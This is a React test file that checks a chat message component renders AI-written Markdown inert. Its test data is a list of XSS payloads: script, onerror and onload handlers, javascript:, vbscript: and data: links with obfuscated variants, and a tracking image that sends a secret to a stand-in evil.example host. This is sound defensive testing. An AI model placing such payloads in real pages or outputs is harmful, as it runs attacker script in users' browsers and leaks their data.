import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { assistant } from '../test/fixtures.js';
import { Message } from './message.js';

/** [name, markdown from the model, the exact text the reader sees] */
const PAYLOADS: Array<[string, string, string]> = [
  ['script block', '<script>alert(1)</script>', '<script>alert(1)</script>'],
  [
    'inline img onerror',
    'hi <img src=x onerror=alert(1)> there',
    'hi <img src=x onerror=alert(1)> there',
  ],
  ['svg onload', '<svg onload=alert(1)></svg>', '<svg onload=alert(1)></svg>'],
  [
    'iframe',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe src="https://evil.example"></iframe>',
  ],
  ['raw anchor', '<a href="javascript:alert(1)">x</a>', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: link', '[click](javascript:alert(1))', 'click'],
  ['upper-case scheme', '[click](JAVASCRIPT:alert(1))', 'click'],
  ['entity-encoded scheme', '[click](java&#x73;cript:alert(1))', 'click'],
  ['vbscript: link', '[vb](vbscript:msgbox(1))', 'vb'],
  ['data: link', '[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'd'],
  ['javascript: autolink', '<javascript:alert(1)>', 'javascript:alert(1)'],
  ['reference-style javascript:', '[x][1]\n\n[1]: javascript:alert(1)', 'x'],
  [
    'data: image',
    '![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    'Image not loaded: pic',
  ],
  ['remote tracking image', '![p](https://evil.example/p.gif?secret=1)', 'Image not loaded: p'],
  ['code keeps markup as text', '`<script>x</script>`', '<script>x</script>'],
];

function textPart(container: HTMLElement): HTMLElement {
  return container.querySelector('[data-part="text"]') as HTMLElement;
}

function allElements(root: HTMLElement): Element[] {
  return [root, ...root.querySelectorAll('*')];
}

describe('XSS payloads in assistant Markdown render inert', () => {
  for (const [name, md, visible] of PAYLOADS) {
    for (const streaming of [false, true]) {
      it(`${name}${streaming ? ' (streaming)' : ''}`, () => {
        const { container } = render(
          <Message message={assistant('a1', md, streaming ? { streaming: true } : {})} />,
        );
        const part = textPart(container);
        expect(part.textContent).toBe(visible);
        // No element that runs, embeds or fetches anything.
        expect(
          part.querySelectorAll('script, iframe, object, embed, img, svg, style, form, input'),
        ).toHaveLength(0);
        for (const e of allElements(part)) {
          // No event handler attribute, and no URL-bearing attribute at all besides safe hrefs.
          for (const attr of e.getAttributeNames())
            expect(attr.startsWith('on'), `${e.tagName} ${attr}`).toBe(false);
          expect(e.hasAttribute('src')).toBe(false);
          expect(e.hasAttribute('srcset')).toBe(false);
        }
        expect(part.querySelectorAll('a[href]')).toHaveLength(0);
      });
    }
  }

  it('keeps a safe https link working, opening in a new tab without an opener', () => {
    const { container } = render(
      <Message message={assistant('a1', '[docs](https://example.com/a?b=1)')} />,
    );
    const a = textPart(container).querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com/a?b=1');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it('loads remote images only when allowed, and never sends a referrer', () => {
    const md = '![chart](https://cdn.example/chart.png) ![x](https://evil.example/x.gif)';
    const { container } = render(
      <Message
        message={assistant('a1', md)}
        allowRemoteImages={(url) => url.startsWith('https://cdn.example/')}
      />,
    );
    const imgs = [...textPart(container).querySelectorAll('img')];
    expect(
      imgs.map((i) => [
        i.getAttribute('src'),
        i.getAttribute('alt'),
        i.getAttribute('referrerpolicy'),
      ]),
    ).toEqual([['https://cdn.example/chart.png', 'chart', 'no-referrer']]);
    expect(textPart(container).querySelector('.rc-image-blocked')!.textContent).toBe(
      'Image not loaded: x',
    );
  });
});
